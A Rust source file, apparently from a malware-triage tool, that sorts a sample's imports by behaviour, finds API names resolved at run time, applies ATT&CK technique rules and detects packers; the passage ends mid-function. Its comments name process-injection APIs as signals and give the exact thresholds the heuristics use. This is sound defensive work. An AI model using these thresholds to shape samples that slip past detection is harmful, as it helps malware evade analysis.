//! What a sample's imports and strings say it does: imports grouped by behaviour category,
//! API names resolved at run time, ATT&CK techniques with their evidence, and packer signs.
//!
//! Everything here is driven by plain-text tables under `data/` (see `data/README.md`):
//! `api-categories.txt` (category → API names), `attack-rules.txt` (import and string
//! combinations → technique), `attack-techniques.txt` (technique ids and names) and
//! `packers.txt` (packer section names). API names are compared after folding: a trailing
//! `A`/`W` (ANSI/wide) is dropped, `Zw` becomes `Nt`, and a Mach-O leading `_` is dropped.

use super::resources::Resource;
use super::{FoundString, Import, Parsed, SampleFormat};
pub use crate::findings::triage::{
    Behavior, Category, DynamicApi, Evidence, EvidenceKind, PackerVerdict, Packing, Technique,
};
use crate::findings::Confidence;
use crate::ioc::Encoding;
use crate::tables;
use aho_corasick::{AhoCorasick, AhoCorasickBuilder, MatchKind};
use rustc_hash::{FxHashMap, FxHashSet};
use std::collections::BTreeMap;
use std::sync::OnceLock;

/// Folds an API name: `CreateFileW` → `CreateFile`, `RegSetValueExA` → `RegSetValueEx`,
/// `ZwWriteVirtualMemory` → `NtWriteVirtualMemory`.
pub fn fold(name: &str) -> String {
    let mut s = name;
    let b = s.as_bytes();
    if b.len() > 3 && matches!(b[b.len() - 1], b'A' | b'W') {
        let prev = b[b.len() - 2];
        if prev.is_ascii_lowercase()
            || prev.is_ascii_digit()
            || s.ends_with("ExA")
            || s.ends_with("ExW")
        {
            s = &s[..s.len() - 1];
        }
    }
    if let Some(rest) = s.strip_prefix("Zw") {
        if rest.starts_with(|c: char| c.is_ascii_uppercase()) {
            return format!("Nt{rest}");
        }
    }
    s.to_string()
}

impl Behavior {
    /// Sorts the lists inside each category and rates it (see [`rate`]).
    pub fn sort(&mut self) {
        for c in &mut self.categories {
            c.imports.sort();
            c.imports.dedup();
            c.resolved.sort();
            c.resolved.dedup();
            rate(c);
        }
    }
}

/// The confidence table: folded common APIs, and `(confidence, minimum)` levels.
#[derive(Debug, Default)]
pub struct ConfidenceTable {
    /// APIs common in benign programs (folded).
    pub common: FxHashSet<String>,
    /// `(confidence, minimum distinct uncommon APIs)`, highest first.
    pub levels: Vec<(Confidence, usize)>,
    /// The kernel32.dll functions the Go runtime imports into every Go program (exact).
    pub go_runtime: FxHashSet<String>,
}

/// Parses `behavior-confidence.txt`.
pub fn parse_confidence_table(text: &str) -> ConfidenceTable {
    let mut t = ConfidenceTable::default();
    let mut part = "";
    for e in tables::entries(text) {
        if let Some(p) = e.strip_prefix('[').and_then(|r| r.strip_suffix(']')) {
            part = if p == "common" {
                "common"
            } else if p == "levels" {
                "levels"
            } else if p == "go-runtime" {
                "go-runtime"
            } else {
                ""
            };
            continue;
        }
        match part {
            "common" => {
                t.common.insert(fold(e));
            }
            "go-runtime" => {
                t.go_runtime.insert(e.to_string());
            }
            "levels" => {
                if let Some((c, n)) = e.split_once(char::is_whitespace) {
                    if let (Some(c), Ok(n)) = (Confidence::from_name(c), n.trim().parse()) {
                        t.levels.push((c, n));
                    }
                }
            }
            _ => {}
        }
    }
    t.levels.sort_by_key(|l| std::cmp::Reverse(l.1));
    t
}

/// The embedded confidence table.
pub fn confidence_table() -> &'static ConfidenceTable {
    static T: OnceLock<ConfidenceTable> = OnceLock::new();
    T.get_or_init(|| parse_confidence_table(include_str!("../../data/behavior-confidence.txt")))
}

/// Whether `import` is one the Go runtime puts into every Go program for Windows
/// (`[go-runtime]` of `behavior-confidence.txt`): in a sample built by Go, no sign of what
/// the program does.
pub fn is_go_runtime_import(import: &Import) -> bool {
    import.library.eq_ignore_ascii_case("kernel32.dll")
        && import
            .name
            .as_deref()
            .is_some_and(|n| confidence_table().go_runtime.contains(n))
}

/// How many of the Go runtime's imports an import table must hold to be the one Go's linker
/// writes: every Go executable of the real goodware set holds at least 36 of them, a C
/// program a handful (so a `Go build ID` string put into a C loader does not hide its
/// `SetThreadContext` and `ResumeThread`).
const GO_RUNTIME_TABLE_MIN: usize = 30;

/// Whether `imports` is the import table Go's linker writes for the runtime: at least
/// [`GO_RUNTIME_TABLE_MIN`] distinct functions of `[go-runtime]`. With a Go toolchain found,
/// those imports are no behaviour of the sample.
pub fn is_go_runtime_table(imports: &[Import]) -> bool {
    distinct_names(imports, is_go_runtime_import) >= GO_RUNTIME_TABLE_MIN
}

/// How many distinct names the imports that `which` picks have.
fn distinct_names(imports: &[Import], which: fn(&Import) -> bool) -> usize {
    imports
        .iter()
        .filter(|i| which(i))
        .filter_map(|i| i.name.as_deref())
        .collect::<FxHashSet<&str>>()
        .len()
}

/// How many distinct functions of `api-categories.txt` a PE must export to be a layer of
/// the Windows API itself: wine's `kernel32.dll`, `kernelbase.dll`, `advapi32.dll`,
/// `ntdll.dll` and `ntoskrnl.exe` export 24 to 86 of them, no other file of the real
/// goodware set more than 2, no corpus sample any.
const API_LAYER_MIN: usize = 20;

/// How many functions of one category an API layer must export for its imports of that
/// category to be how it implements them.
const API_LAYER_CATEGORY_MIN: usize = 2;

/// The categories (indexes into [`ApiTable::order`]) that a module exporting `exports`
/// implements: empty unless it exports at least [`API_LAYER_MIN`] table functions; then
/// each category of which it exports at least [`API_LAYER_CATEGORY_MIN`]. `kernelbase.dll`
/// exports `WriteProcessMemory` and `VirtualAllocEx` and imports `NtWriteVirtualMemory`
/// to do what they say: its imports of those categories are no sign of what it does.
pub fn api_layer_categories<'a>(exports: impl IntoIterator<Item = &'a str>) -> FxHashSet<usize> {
    let table = api_table();
    let exported: FxHashSet<String> = exports
        .into_iter()
        .map(fold)
        .filter(|f| table.apis.contains_key(f))
        .collect();
    if exported.len() < API_LAYER_MIN {
        return FxHashSet::default();
    }
    let mut per: FxHashMap<usize, usize> = FxHashMap::default();
    for cat in exported.iter().filter_map(|f| table.apis.get(f)).flatten() {
        *per.entry(*cat).or_default() += 1;
    }
    per.into_iter()
        .filter(|&(_, n)| n >= API_LAYER_CATEGORY_MIN)
        .map(|(cat, _)| cat)
        .collect()
}

/// Whether an ELF file's export `name` can be a Windows API function that it implements
/// (wine's `ntdll.so` exports `NtWriteVirtualMemory`): Windows API names start with a
/// capital letter, the C library's do not (an LD_PRELOAD hook's `readdir` stays a hook).
pub fn names_windows_api(name: &str) -> bool {
    name.starts_with(|c: char| c.is_ascii_uppercase())
}

/// The exports that name what a module implements: a PE's (`pe`), and an ELF file's
/// (`elf`) that can be Windows API names ([`names_windows_api`]). Triage and the class
/// facts read a module's own names and its API layer from these alike.
pub fn implemented_exports<'a>(
    pe: &'a [String],
    elf: &'a [String],
) -> impl Iterator<Item = &'a str> + 'a {
    pe.iter().map(String::as_str).chain(
        elf.iter()
            .map(String::as_str)
            .filter(|n| names_windows_api(n)),
    )
}

/// Whether `import` is a function of one of `categories` (from [`api_layer_categories`]).
pub fn in_categories(import: &Import, categories: &FxHashSet<usize>) -> bool {
    !categories.is_empty()
        && import.name.as_deref().is_some_and(|n| {
            api_table()
                .apis
                .get(&fold(n))
                .is_some_and(|cats| cats.iter().any(|c| categories.contains(c)))
        })
}

/// How many distinct system calls (`Nt*` and `Zw*` functions of `ntdll.dll`) a PE must
/// import to be a layer over the system calls itself: wine's `wow64.dll`, which passes a
/// 32-bit program's system calls on to the 64-bit ones, imports 212 (and wine's API layers
/// `ntoskrnl.exe` and `kernelbase.dll` 145 and 131); every other PE file of the real goodware
/// set at most 28 (wine's `kernel32.dll`), outside wine at most 5; no corpus sample imports
/// one by name.
const SYSCALL_LAYER_MIN: usize = 100;

/// Whether `import` is a system call: an `Nt*` or `Zw*` function of `ntdll.dll`.
fn is_syscall_import(import: &Import) -> bool {
    import.library.eq_ignore_ascii_case("ntdll.dll")
        && import.name.as_deref().is_some_and(|n| {
            let b = n.as_bytes();
            (b.starts_with(b"Nt") || b.starts_with(b"Zw"))
                && b.get(2).is_some_and(u8::is_ascii_uppercase)
        })
}

/// Whether `imports` are those of a layer over the system calls: at least
/// [`SYSCALL_LAYER_MIN`] distinct ones. Its system calls are how it passes calls on, no sign
/// of what it does (`wow64.dll` imports `NtWriteVirtualMemory` for every 32-bit program
/// that writes another process's memory).
pub fn is_syscall_layer(imports: &[Import]) -> bool {
    distinct_names(imports, is_syscall_import) >= SYSCALL_LAYER_MIN
}

/// The imports that say how a module is built or what it implements, not what it does: the
/// Go runtime's, in the import table Go's linker writes, an API layer's of the categories
/// it exports, and a system-call layer's system calls. Triage and the class facts leave
/// them out alike.
#[derive(Debug)]
pub struct NotBehaviour {
    go_runtime: bool,
    layer: FxHashSet<usize>,
    syscall_layer: bool,
}

impl NotBehaviour {
    /// For a module built by Go (`go`: the toolchain found) with `imports` and `exports`.
    pub fn of<'a>(
        go: bool,
        imports: &[Import],
        exports: impl IntoIterator<Item = &'a str>,
    ) -> NotBehaviour {
        NotBehaviour {
            go_runtime: go && is_go_runtime_table(imports),
            layer: api_layer_categories(exports),
            syscall_layer: is_syscall_layer(imports),
        }
    }

    /// Whether `import` is one of them.
    pub fn covers(&self, import: &Import) -> bool {
        (self.go_runtime && is_go_runtime_import(import))
            || in_categories(import, &self.layer)
            || (self.syscall_layer && is_syscall_import(import))
    }
}

/// Rates a category: the distinct APIs it holds (imported or resolved) that are not common
/// in benign programs decide its confidence; the reason names the count and the common ones.
pub fn rate(c: &mut Category) {
    let t = confidence_table();
    let mut apis: Vec<String> = c
        .imports
        .iter()
        .map(|l| l.rsplit('!').next().unwrap_or(l))
        .chain(c.resolved.iter().map(String::as_str))
        .map(|n| fold(n.strip_prefix('_').unwrap_or(n)))
        .collect();
    apis.sort();
    apis.dedup();
    let (common, rare): (Vec<&String>, Vec<&String>) =
        apis.iter().partition(|a| t.common.contains(a.as_str()));
    c.confidence = t
        .levels
        .iter()
        .find(|(_, min)| rare.len() >= *min)
        .map_or(Confidence::Low, |(conf, _)| *conf);
    let count = match apis.len() {
        1 => "1 API".to_string(),
        n => format!("{n} distinct APIs"),
    };
    c.reason = if common.is_empty() {
        count
    } else {
        format!(
            "{count}, {} common in benign programs ({})",
            common.len(),
            common
                .iter()
                .take(4)
                .map(|s| s.as_str())
                .collect::<Vec<_>>()
                .join(", ")
        )
    };
}

/// The API category table: folded API name → categories, and category order.
#[derive(Debug, Default)]
pub struct ApiTable {
    /// Categories in table order.
    pub order: Vec<String>,
    /// Folded API name → category indexes.
    pub apis: FxHashMap<String, Vec<usize>>,
}

/// Parses `api-categories.txt`: `[category]` headers, then one API name per line.
pub fn parse_api_table(text: &str) -> ApiTable {
    let mut t = ApiTable::default();
    for e in tables::entries(text) {
        if let Some(cat) = e.strip_prefix('[').and_then(|r| r.strip_suffix(']')) {
            t.order.push(cat.trim().to_string());
        } else if let Some(cat) = t.order.len().checked_sub(1) {
            let list = t.apis.entry(fold(e)).or_default();
            if !list.contains(&cat) {
                list.push(cat);
            }
        }
    }
    t
}

/// The embedded API category table.
pub fn api_table() -> &'static ApiTable {
    static T: OnceLock<ApiTable> = OnceLock::new();
    T.get_or_init(|| parse_api_table(tables::API_CATEGORIES))
}

pub use crate::findings::attack::technique_names;

/// What one `need` / `none` line looks at.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum AtomKind {
    /// An imported API (folded name).
    Import,
    /// An API imported or found as a string.
    Api,
    /// A case-insensitive substring of any string.
    String,
    /// Any import in a category.
    Category,
    /// Any API of a category found only as a string.
    Resolved,
    /// A PE resource with a tag (`rcdata`, `embedded-pe`, `high-entropy`, ...).
    Resource,
    /// A function an ELF shared object exports (its name as written).
    Export,
    /// A URL with a host after a scheme (`http://`) in a string, its host not on the
    /// built-in allowlist (XML namespaces, schemas): a scheme alone is no address.
    Url,
}

/// One `need` or `none` line: at least `min` distinct alternatives must match.
#[derive(Debug, Clone)]
pub struct Condition {
    /// What the alternatives are.
    pub kind: AtomKind,
    /// How many distinct alternatives must match.
    pub min: usize,
    /// The alternatives.
    pub alternatives: Vec<String>,
}

/// One rule: every `need` holds and no `none` does.
#[derive(Debug, Clone)]
pub struct Rule {
    /// Technique id.
    pub technique: String,
    /// `low`, `medium` or `high`.
    pub confidence: Confidence,
    /// Formats the rule applies to (empty: all).
    pub formats: Vec<String>,
    /// Conditions that must hold.
    pub need: Vec<Condition>,
    /// Conditions that must not hold.
    pub none: Vec<Condition>,
    /// Line number in the table, for messages.
    pub line: usize,
}

/// Parses `attack-rules.txt`. Errors name the line.
pub fn parse_rules(text: &str) -> Result<Vec<Rule>, crate::Error> {
    let mut rules: Vec<Rule> = Vec::new();
    for (n, line) in crate::tables::numbered_entries(text) {
        let (word, rest) = line.split_once(char::is_whitespace).unwrap_or((line, ""));
        let rest = rest.trim();
        match word {
            "rule" => {
                let mut parts = rest.split_whitespace();
                let technique = parts
                    .next()
                    .ok_or_else(|| crate::Error::parse_at(n, "rule without id"))?;
                let confidence = match parts.next().map(Confidence::from_name) {
                    None => Confidence::Medium,
                    Some(Some(c)) if c != Confidence::Observed => c,
                    Some(_) => {
                        return Err(crate::Error::parse_at(
                            n,
                            "confidence must be low, medium or high",
                        ))
                    }
                };
                rules.push(Rule {
                    technique: technique.to_string(),
                    confidence,
                    formats: Vec::new(),
                    need: Vec::new(),
                    none: Vec::new(),
                    line: n,
                });
            }
            "format" | "need" | "none" => {
                let rule = rules.last_mut().ok_or_else(|| {
                    crate::Error::parse_at(n, format!("'{word}' before any rule"))
                })?;
                if word == "format" {
                    rule.formats = rest.split_whitespace().map(str::to_string).collect();
                    continue;
                }
                let (mut kind_word, mut rest) =
                    rest.split_once(char::is_whitespace).unwrap_or((rest, ""));
                let mut min = 1;
                if let Ok(m) = kind_word.parse::<usize>() {
                    min = m.max(1);
                    (kind_word, rest) = rest
                        .trim()
                        .split_once(char::is_whitespace)
                        .unwrap_or((rest, ""));
                }
                let kind = match kind_word {
                    "import" => AtomKind::Import,
                    "api" => AtomKind::Api,
                    "string" => AtomKind::String,
                    "category" => AtomKind::Category,
                    "resolved" => AtomKind::Resolved,
                    "resource" => AtomKind::Resource,
                    "export" => AtomKind::Export,
                    "url" => AtomKind::Url,
                    other => {
                        return Err(crate::Error::parse_at(
                            n,
                            format!("unknown condition kind '{other}'"),
                        ))
                    }
                };
                let alternatives: Vec<String> = rest
                    .split('|')
                    .map(|a| a.trim())
                    .filter(|a| !a.is_empty())
                    .map(|a| match kind {
                        AtomKind::Import | AtomKind::Api => fold(a),
                        _ => a.to_string(),
                    })
                    .collect();
                if alternatives.is_empty() {
                    return Err(crate::Error::parse_at(n, "condition without alternatives"));
                }
                let cond = Condition {
                    kind,
                    min,
                    alternatives,
                };
                if word == "need" {
                    rule.need.push(cond);
                } else {
                    rule.none.push(cond);
                }
            }
            other => {
                return Err(crate::Error::parse_at(
                    n,
                    format!("unknown keyword '{other}'"),
                ))
            }
        }
    }
    Ok(rules)
}

/// The embedded rules (an unparsable table gives no rules; a unit test keeps it parsable).
pub fn rules() -> &'static [Rule] {
    static R: OnceLock<Vec<Rule>> = OnceLock::new();
    R.get_or_init(|| parse_rules(tables::ATTACK_RULES).unwrap_or_default())
}

/// The embedded packer table: section names of packers, and benign layouts.
#[derive(Debug, Default)]
pub struct PackerTable {
    /// Lower-cased section name → packer.
    pub sections: FxHashMap<String, String>,
    /// Benign layouts: lower-cased name (a trailing `*` is a prefix), the signs that do not
    /// count for it, and whether only drivers have it.
    pub benign: Vec<(String, Vec<String>, bool)>,
}

impl PackerTable {
    /// Whether `sign` does not count for section `name` (`driver`: the file is a driver).
    pub fn excused(&self, name: &str, sign: &str, driver: bool) -> bool {
        let name = name.to_ascii_lowercase();
        self.benign.iter().any(|(pattern, signs, only_drivers)| {
            let hit = match pattern.strip_suffix('*') {
                Some(prefix) => name.starts_with(prefix),
                None => name == *pattern,
            };
            hit && (driver || !only_drivers) && signs.iter().any(|s| s == sign)
        })
    }
}

/// Parses `packers.txt`: `section packer` lines, then `[benign]` and `section sign... [driver]`.
pub fn parse_packer_table(text: &str) -> PackerTable {
    let mut t = PackerTable::default();
    let mut benign = false;
    for e in tables::entries(text) {
        if e == "[benign]" {
            benign = true;
            continue;
        }
        let Some((name, rest)) = e.split_once(char::is_whitespace) else {
            continue;
        };
        let name = name.to_ascii_lowercase();
        if benign {
            let words: Vec<String> = rest.split_whitespace().map(str::to_string).collect();
            let driver = words.iter().any(|w| w == "driver");
            let signs = words.into_iter().filter(|w| w != "driver").collect();
            t.benign.push((name, signs, driver));
        } else {
            t.sections.insert(name, rest.trim().to_string());
        }
    }
    t
}

/// The embedded packer table.
pub fn packer_table() -> &'static PackerTable {
    static P: OnceLock<PackerTable> = OnceLock::new();
    P.get_or_init(|| parse_packer_table(tables::PACKERS))
}

/// The embedded packer section names: lower-cased section name → packer.
pub fn packer_sections() -> &'static FxHashMap<String, String> {
    &packer_table().sections
}

/// `Namespace.Type.Member` for a .NET member reference (its library is a dotted type name,
/// not a file name), `None` for native imports.
fn dotted(imp: &Import) -> Option<String> {
    let name = imp.name.as_deref()?;
    let lib = &imp.library;
    let file = lib.rsplit_once('.').is_some_and(|(_, ext)| {
        matches!(
            ext.to_ascii_lowercase().as_str(),
            "dll" | "exe" | "sys" | "drv" | "ocx" | "cpl" | "so"
        ) || ext.bytes().all(|b| b.is_ascii_digit())
    });
    (lib.contains('.') && !lib.contains('/') && !file).then(|| format!("{lib}.{name}"))
}

fn folded_import(imp: &Import, format: SampleFormat) -> Option<String> {
    let name = imp.name.as_deref()?;
    let name = match format {
        SampleFormat::Macho | SampleFormat::MachoFat => name.strip_prefix('_').unwrap_or(name),
        _ => name,
    };
    Some(fold(name))
}

/// Groups imports by category and finds API names that are strings but not imports.
pub fn analyse(imports: &[Import], strings: &[FoundString], format: SampleFormat) -> Behavior {
    let table = api_table();
    let mut cats: Vec<Category> = table
        .order
        .iter()
        .map(|n| Category {
            name: n.clone(),
            imports: Vec::new(),
            resolved: Vec::new(),
            confidence: Confidence::Low,
            reason: String::new(),
        })
        .collect();
    let mut imported: FxHashSet<String> = FxHashSet::default();
    for imp in imports {
        let Some(f) = folded_import(imp, format) else {
            continue;
        };
        // A .NET member reference is listed by its full name (`System.Net.WebClient.
        // DownloadData`); a native import by its folded name.
        let full = dotted(imp);
        let key = full.as_ref().unwrap_or(&f);
        if let Some(idx) = table.apis.get(key) {
            for &i in idx {
                cats[i].imports.push(imp.label());
            }
        }
        imported.insert(f);
    }
    let mut dynamic_apis = Vec::new();
    let mut seen = FxHashSet::default();
    let anchors = Anchors::new(strings, &table.apis);
    for s in strings {
        let v = s.value.trim();
        if v.len() < 4 || v.len() > 64 || !v.bytes().all(|b| b.is_ascii_alphanumeric() || b == b'_')
        {
            continue;
        }
        let f = fold(v);
        if imported.contains(&f) {
            continue;
        }
        if let Some(idx) = table.apis.get(&f) {
            if is_word_shaped(v) && !anchors.near(s) {
                continue;
            }
            for &i in idx {
                cats[i].resolved.push(v.to_string());
            }
            if seen.insert(v.to_string()) {
                dynamic_apis.push(DynamicApi {
                    name: v.to_string(),
                    categories: idx.iter().map(|&i| table.order[i].clone()).collect(),
                    offset: s.offset,
                    encoding: s.encoding,
                });
            }
        }
    }
    cats.retain(|c| !c.imports.is_empty() || !c.resolved.is_empty());
    Behavior {
        categories: cats,
        dynamic_apis,
    }
}

/// A C-library name written in lower-case letters alone (`system`, `connect`, `accept`,
/// `socket`, `unlink`) is also an ordinary word or identifier: `std::system_category`'s
/// name, a Python method, the sorted identifier table of a Go binary. As a string it counts
/// as resolved at run time only with an [`Anchors`] string near it.
fn is_word_shaped(name: &str) -> bool {
    name.bytes().all(|b| b.is_ascii_lowercase())
}

/// Bytes between a word-shaped API name and an anchor string for the two to be neighbours
/// (a resolver's table of names is laid out string after string).
const ANCHOR_REACH: u64 = 64;

/// Where the strings lie that show names being resolved: an API name of the table that is
/// not word-shaped (`WSAStartup`, `GetProcAddress`, `inet_addr`), the resolvers `dlsym` and
/// `dlopen`, and library names (`ws2_32.dll`, `libc.so.6`).
struct Anchors {
    /// (first byte, end) of each anchor, by first byte.
    spans: Vec<(u64, u64)>,
}

impl Anchors {
    fn new(strings: &[FoundString], apis: &FxHashMap<String, Vec<usize>>) -> Self {
        let mut spans: Vec<(u64, u64)> = strings
            .iter()
            .filter(|s| {
                let v = s.value.trim();
                s.tags.contains(&"dll")
                    || v == "dlsym"
                    || v == "dlopen"
                    || (!is_word_shaped(v) && v.len() <= 64 && apis.contains_key(&fold(v)))
            })
            .map(|s| (s.offset, s.offset.saturating_add(byte_len(s))))
            .collect();
        spans.sort_unstable();
        Anchors { spans }
    }

    /// Whether an anchor other than `s` itself lies within [`ANCHOR_REACH`] bytes of `s`.
    fn near(&self, s: &FoundString) -> bool {
        let (start, end) = (s.offset, s.offset.saturating_add(byte_len(s)));
        let first_after = self
            .spans
            .partition_point(|&(a, _)| a <= end.saturating_add(ANCHOR_REACH));
        // anchors are short names, so the few before the reach's end are the candidates
        self.spans[..first_after]
            .iter()
            .rev()
            .take(8)
            .any(|&(a, b)| (a, b) != (start, end) && b.saturating_add(ANCHOR_REACH) >= start)
    }
}

/// Bytes a string takes in the file.
fn byte_len(s: &FoundString) -> u64 {
    let n = s.value.len() as u64;
    match s.encoding {
        Encoding::Utf16le => n * 2,
        Encoding::Ascii => n,
    }
}

/// What the techniques' rules look at in one sample.
#[derive(Debug, Clone, Copy)]
pub struct Facts<'a> {
    /// The imports that count as the program's.
    pub imports: &'a [Import],
    /// The strings that count as the program's.
    pub strings: &'a [FoundString],
    /// The functions an ELF shared object exports (empty otherwise).
    pub exports: &'a [String],
    /// The PE's resources (empty otherwise).
    pub resources: &'a [Resource],
}

/// [`Facts`] indexed for the rules.
struct Index<'a> {
    imports: FxHashMap<String, Vec<&'a Import>>,
    resolved: FxHashMap<String, &'a FoundString>,
    behavior: &'a Behavior,
    resources: &'a [Resource],
    exports: FxHashSet<&'a str>,
    /// Pattern → first string containing it, and where in that string it starts.
    string_hits: FxHashMap<String, (&'a FoundString, usize)>,
    /// URL prefix (lower case) → first string holding a URL with a host after it, where
    /// the URL starts and its length.
    url_hits: FxHashMap<String, (&'a FoundString, usize, usize)>,
}

/// Whether a string holds one of the substrings an ATT&CK rule looks for (the strings
/// cap keeps such strings before others).
pub fn names_a_technique_string(value: &str) -> bool {
    string_patterns()
        .1
        .as_ref()
        .is_some_and(|ac| ac.is_match(value))
}

fn string_patterns() -> &'static (Vec<String>, Option<AhoCorasick>) {
    static P: OnceLock<(Vec<String>, Option<AhoCorasick>)> = OnceLock::new();
    P.get_or_init(|| {
        let pats = alternatives_of(AtomKind::String);
        let ac = AhoCorasickBuilder::new()
            .ascii_case_insensitive(true)
            .match_kind(MatchKind::Standard)
            .build(&pats)
            .ok();
        (pats, ac)
    })
}

/// Where the words of `data/attack-string-exceptions.txt` occur in `value`, in any case
/// (byte ranges).
fn exception_ranges(value: &str) -> Vec<(usize, usize)> {
    static AC: OnceLock<Option<AhoCorasick>> = OnceLock::new();
    let ac = AC.get_or_init(|| {
        let words: Vec<&str> = tables::ATTACK_STRING_EXCEPTIONS
            .lines()
            .map(|l| l.split('#').next().unwrap_or("").trim())
            .filter(|l| !l.is_empty())
            .collect();
        AhoCorasickBuilder::new()
            .ascii_case_insensitive(true)
            .build(words)
            .ok()
    });
    ac.as_ref().map_or_else(Vec::new, |ac| {
        ac.find_overlapping_iter(value)
            .map(|m| (m.start(), m.end()))
            .collect()
    })
}

/// Whether `lower` (`value` in lower case) holds `pattern` (lower case) somewhere outside
/// the benign words of `data/attack-string-exceptions.txt`: the test the class hints'
/// `string` conditions make, as the techniques' string patterns do.
pub fn holds_string(value: &str, lower: &str, pattern: &str) -> bool {
    if pattern.is_empty() || !lower.contains(pattern) {
        return false;
    }
    let exceptions = exception_ranges(value);
    if exceptions.is_empty() {
        return true;
    }
    // every place, overlapping ones too
    let mut from = 0;
    while let Some(at) = lower.get(from..).and_then(|rest| rest.find(pattern)) {
        let at = from + at;
        if !exceptions
            .iter()
            .any(|&(a, b)| a <= at && at + pattern.len() <= b)
        {
            return true;
        }
        from = at + 1;
        while !lower.is_char_boundary(from) {
            from += 1;
        }
    }
    false
}

/// The alternatives of the rules' conditions of one kind, in lower case, sorted, once
/// each.
fn alternatives_of(kind: AtomKind) -> Vec<String> {
    let mut alternatives: Vec<String> = rules()
        .iter()
        .flat_map(|r| r.need.iter().chain(&r.none))
        .filter(|c| c.kind == kind)
        .flat_map(|c| c.alternatives.iter().map(|a| a.to_ascii_lowercase()))
        .collect();
    alternatives.sort();
    alternatives.dedup();
    alternatives
}

/// The prefixes of the rules' `url` conditions, in lower case.
fn url_prefixes() -> &'static [String] {
    static P: OnceLock<Vec<String>> = OnceLock::new();
    P.get_or_init(|| alternatives_of(AtomKind::Url))
}

/// The built-in allowlist, which the `url` conditions ask about each URL they find.
fn url_allowlist() -> &'static crate::ioc::allowlist::Allowlist {
    static A: OnceLock<crate::ioc::allowlist::Allowlist> = OnceLock::new();
    A.get_or_init(crate::ioc::allowlist::Allowlist::builtin)
}

/// The first URL in `value` that starts with `prefix` (a scheme and `://`, any case) and
/// has a host after it: a name with a dot, an address, a bracketed IPv6 address or a
/// `%s`-style placeholder that the program fills in. Returns where it starts and the URL,
/// up to the first blank, quote, angle bracket or control character. A scheme alone
/// (`http://`, which URL-handling libraries such as MFC hold to build and parse
/// addresses) is none.
fn url_with_host<'v>(value: &'v str, prefix: &str) -> Option<(usize, &'v str)> {
    let bytes = value.as_bytes();
    let scheme = prefix.len().checked_sub(3)?;
    memchr::memmem::find_iter(bytes, b"://")
        .filter_map(|colon| {
            let start = colon.checked_sub(scheme)?;
            let head = bytes.get(start..colon + 3)?;
            if !head.eq_ignore_ascii_case(prefix.as_bytes()) {
                return None;
            }
            let end = bytes[colon + 3..]
                .iter()
                .position(|&b| b <= b' ' || matches!(b, b'"' | b'\'' | b'<' | b'>' | 0x7f))
                .map_or(bytes.len(), |n| colon + 3 + n);
            let rest = &bytes[colon + 3..end];
            let host_len = rest
                .iter()
                .position(|&b| matches!(b, b'/' | b'?' | b'#'))
                .unwrap_or(rest.len());
            let host = &rest[..host_len];
            let hostlike = match host.first() {
                Some(b'[' | b'%') => true,
                Some(b) if b.is_ascii_alphanumeric() => {
                    host.contains(&b'.')
                        && host.iter().all(|&b| {
                            b.is_ascii_alphanumeric()
                                || matches!(b, b'.' | b'-' | b'_' | b':' | b'@' | b'%')
                        })
                }
                _ => false,
            };
            hostlike.then(|| (start, &value[start..end]))
        })
        .next()
}

fn matches(facts: &Index<'_>, cond: &Condition) -> Vec<Evidence> {
    let mut hits: Vec<Evidence> = Vec::new();
    let mut count = 0;
    for alt in &cond.alternatives {
        let before = hits.len();
        match cond.kind {
            AtomKind::Import | AtomKind::Api => {
                if let Some(list) = facts.imports.get(alt) {
                    for imp in list {
                        hits.push(Evidence {
                            kind: EvidenceKind::Import,
                            value: imp.label(),
                            offset: None,
                            encoding: None,
                        });
                    }
                } else if cond.kind == AtomKind::Api {
                    if let Some(s) = facts.resolved.get(alt) {
                        hits.push(string_evidence(EvidenceKind::Resolved, s));
                    }
                }
            }
            AtomKind::String => {
                if let Some(&(s, at)) = facts.string_hits.get(&alt.to_ascii_lowercase()) {
                    hits.push(string_evidence_at(s, at, alt.len()));
                }
            }
            AtomKind::Url => {
                if let Some(&(s, at, len)) = facts.url_hits.get(&alt.to_ascii_lowercase()) {
                    hits.push(string_evidence_at(s, at, len));
                }
            }
            AtomKind::Export => {
                if facts.exports.contains(alt.as_str()) {
                    hits.push(Evidence {
                        kind: EvidenceKind::Export,
                        value: alt.clone(),
                        offset: None,
                        encoding: None,
                    });
                }
            }
            AtomKind::Resource => {
                for r in facts.resources {
                    if r.tags().iter().any(|t| t.eq_ignore_ascii_case(alt)) {
                        hits.push(Evidence {
                            kind: EvidenceKind::Resource,
                            value: r.name.clone(),
                            offset: Some(r.offset),
                            encoding: None,
                        });
                    }
                }
            }
            AtomKind::Category | AtomKind::Resolved => {
                if let Some(c) = facts.behavior.categories.iter().find(|c| &c.name == alt) {
                    let list = if cond.kind == AtomKind::Category {
                        &c.imports
                    } else {
                        &c.resolved
                    };
                    for v in list.iter().take(3) {
                        hits.push(Evidence {
                            kind: if cond.kind == AtomKind::Category {
                                EvidenceKind::Import
                            } else {
                                EvidenceKind::Resolved
                            },
                            value: v.clone(),
                            offset: None,
                            encoding: None,
                        });
                    }
                }
            }
        }
        if hits.len() > before {
            count += 1;
        }
    }
    if count >= cond.min {
        hits
    } else {
        Vec::new()
    }
}

/// Longest string shown as evidence, in bytes.
const EVIDENCE_LEN: usize = 120;

fn string_evidence(kind: EvidenceKind, s: &FoundString) -> Evidence {
    let mut value = s.value.clone();
    if value.len() > EVIDENCE_LEN {
        let mut cut = EVIDENCE_LEN;
        while !value.is_char_boundary(cut) {
            cut -= 1;
        }
        value.truncate(cut);
    }
    Evidence {
        kind,
        value,
        offset: Some(s.offset),
        encoding: Some(s.encoding),
    }
}

/// The evidence of a pattern found at byte `at` (`len` bytes) of string `s`: the string's
/// first [`EVIDENCE_LEN`] bytes when they hold the match, else that many bytes around it
/// (a Go binary's strings are glued into runs of many kilobytes), with the offset of the
/// first byte shown.
fn string_evidence_at(s: &FoundString, at: usize, len: usize) -> Evidence {
    let v = s.value.as_str();
    if at + len <= EVIDENCE_LEN || v.len() <= EVIDENCE_LEN {
        return string_evidence(EvidenceKind::String, s);
    }
    // a quarter of the window before the match, the rest after it
    let mut start = at
        .saturating_sub(EVIDENCE_LEN / 4)
        .min(v.len() - EVIDENCE_LEN);
    while !v.is_char_boundary(start) {
        start -= 1;
    }
    let mut end = (start + EVIDENCE_LEN).min(v.len());
    while !v.is_char_boundary(end) {
        end -= 1;
    }
    let skipped = match s.encoding {
        Encoding::Utf16le => 2 * v[..start].encode_utf16().count() as u64,
        _ => start as u64,
    };
    Evidence {
        kind: EvidenceKind::String,
        value: v[start..end].to_string(),
